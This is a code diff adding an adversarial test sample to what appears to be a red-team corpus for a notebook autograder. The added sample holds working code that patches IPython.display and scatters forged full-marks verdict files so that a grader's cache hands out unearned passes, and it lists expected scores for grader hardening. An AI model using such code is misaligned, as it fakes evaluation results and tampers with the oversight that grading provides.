@@ -1026,6 +1026,41 @@ def _display(*objs, **kwargs):
 IPython.display.display = _display
 '''
 
+POISON_VERDICT_CACHE = '''\
+# Class 5: poison the grading host's verdict cache. This notebook's network is the reference's, so
+# once any honest copy is graded, the cache holds "passed" for its data. Rewrite our q4_quality probe
+# record to carry that data *and* an error: a cache keyed on the value alone would hand out the
+# cached "passed", where a fresh check judges the error. Also plant look-alike cache entries
+# (full marks) wherever this container can write, in case a cache folder is shared with it.
+import json, os, pathlib, tempfile
+import IPython.display
+
+MIME = "application/vnd.optgrade.probe+json"
+_real_display = IPython.display.display
+
+
+def _display(*objs, **kwargs):
+    for obj in objs:
+        if isinstance(obj, dict) and isinstance(obj.get(MIME), dict):
+            entry = obj[MIME].get("tests", {}).get("test_q4_quality_balanced_accuracy")
+            if isinstance(entry, dict) and "value" in entry:
+                entry["error"] = "planted next to the 2019 network's data"
+    return _real_display(*objs, **kwargs)
+
+
+IPython.display.display = _display
+FAKE = {"question": "q4_quality", "name": "test_q4_quality_balanced_accuracy", "points": 4.0, "passed": True,
+        "message": "passed"}
+for folder in {os.getcwd(), tempfile.gettempdir(), os.path.expanduser("~"), "/tmp", "/work"}:
+    for sub in ("", "verdicts", ".cache/optgrade/verdicts"):
+        try:
+            target = pathlib.Path(folder, sub, "00")
+            target.mkdir(parents=True, exist_ok=True)
+            (target / ("0" * 64 + ".json")).write_text(json.dumps(FAKE))
+        except OSError:
+            pass
+'''
+
 # the payloads run by the grader when it unpickles our files (never in this script)
 RUNNER_PAYLOAD = '''\
 import pathlib, tempfile
@@ -1873,6 +1908,11 @@ SAMPLES: list[Sample] = [
     Sample("5-prefilled-forged-outputs.ipynb", 5, lambda: notebook_bytes(prefilled_outputs()), "graded",
            "blank template submitted with stale outputs: every grader.check cell already shows a passing probe "
            "record, stdout JSON and 'All test cases passed!'"),
+    Sample("5-poison-verdict-cache.ipynb", 5, as_bytes(early([POISON_VERDICT_CACHE], "poison-cache", reference)),
+           "graded", "the reference whose q4_quality probe record gets an error planted next to the 2019 network's "
+           "data (IPython.display patched), after an honest copy filled the verdict cache; look-alike cache "
+           "entries with full marks written to every writable folder",
+           expected_total=None, base="reference-poison"),
     # 6. code execution in the grader
     Sample("6-malicious-results-pickle.ipynb", 6,
            as_bytes(early([MALICIOUS_PICKLES.replace("@@OTTER_LOG@@", repr(malicious_otter_log()))], "pickles")),
@@ -2004,7 +2044,7 @@ STOCK_OTTER = {
     "4-get-net-perfect-predict.ipynb": "0 [4]", "4-keras-lambda-layer.ipynb": "0 [4]",
     "5-write-results-files.ipynb": "0", "5-forge-results-pickle.ipynb": "27", "5-hooks-and-atexit.ipynb": "27",
     "5-background-rewriter.ipynb": "27", "5-forged-probe-records.ipynb": "0 (aims at the hardened grader)",
-    "5-prefilled-forged-outputs.ipynb": "0",
+    "5-prefilled-forged-outputs.ipynb": "0", "5-poison-verdict-cache.ipynb": "not run (aims at optgrade's verdict cache)",
     "6-malicious-results-pickle.ipynb": "27, code ran in the grader (marker file)",
     "6-zip-with-otter-log.zip": "27, code ran in the grader (marker file)",
     "6-logging-socket-pickle.ipynb": "27, code ran in the grader (marker file)",
@@ -2031,6 +2071,8 @@ def expected_total(sample: Sample) -> float:
         return sample.expected_total
     if sample.base == "blank":
         return 0.0
+    if sample.base == "reference-poison":
+        return float(TOTAL - POINTS["q4_quality"])
     if sample.base == "attack-net":
         if ([t for t, _, _ in sample.q4_net] != list(Q4_NET_TESTS) or sum(Q4_NET_TESTS.values()) != POINTS["q4_net"]
                 or any(not 0 <= p <= Q4_NET_TESTS[t] for t, p, _ in sample.q4_net)):
@@ -2047,6 +2089,9 @@ def notes_for(sample: Sample, total: float) -> str:
         return f"{sample.notes}; deserved: the reference's {checked} = {total:g} checked before the attack, q4 blank"
     if sample.base == "reference":
         return f"{sample.notes}; deserved: all {total:g} (unchanged reference)"
+    if sample.base == "reference-poison":
+        return (f"{sample.notes}; deserved: {total:g}, what a fresh check gives: the reference's points less "
+                f"q4_quality ({POINTS['q4_quality']}), whose record carries an error, cache or no cache")
     if sample.base == "attack-net":
         tests = "; ".join(f"{test} {points:g}: {why}" for test, points, why in sample.q4_net)
         net = sum(points for _, points, _ in sample.q4_net)
